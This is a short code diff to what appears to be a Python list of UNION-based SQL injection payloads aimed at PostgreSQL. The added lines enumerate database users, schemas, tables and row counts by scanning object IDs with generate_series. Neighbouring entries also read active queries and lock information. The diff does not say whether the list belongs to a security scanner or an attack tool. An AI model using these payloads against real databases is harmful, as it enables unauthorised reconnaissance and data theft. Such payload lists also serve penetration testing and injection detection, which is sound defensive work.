@@ -64,7 +64,12 @@ FRAGMENTS = (
     _UNION + "pid::text, query FROM pg_stat_activity --",
     _UNION + "relation::regclass::text, mode FROM pg_locks --",
     _UNION + "pg_reload_conf()::text, '' --",
+    _UNION + "pg_total_relation_size(i::oid)::text, '' FROM generate_series(16384, 40000) i --",
+    _UNION + "pg_stat_get_live_tuples(i::oid)::text, '' FROM generate_series(16384, 40000) i --",
     # who else is there
+    _UNION + "pg_get_userbyid(i::oid), '' FROM generate_series(16384, 40000) i --",
+    _UNION + "pg_describe_object('pg_namespace'::regclass, i::oid, 0), '' FROM generate_series(16384, 40000) i --",
+    _UNION + "(pg_identify_object('pg_class'::regclass, i::oid, 0)).name, '' FROM generate_series(16384, 40000) i --",
     _UNION + "nspname, '' FROM pg_namespace --",
     _UNION + "relname, relnamespace::regnamespace::text FROM pg_class --",
     _UNION + "rolname, '' FROM pg_roles --",
@@ -89,5 +94,4 @@ NUMBERS_INTO_NAMES = (
     _UNION + "i::regnamespace::text, '' FROM generate_series(16384, 40000) i --",
     _UNION + "i::regrole::text, '' FROM generate_series(16384, 40000) i --",
     _UNION + "i::regclass::text, '' FROM generate_series(16384, 40000) i --",
-    _UNION + "pg_get_userbyid(i::oid), '' FROM generate_series(16384, 40000) i --",
 )
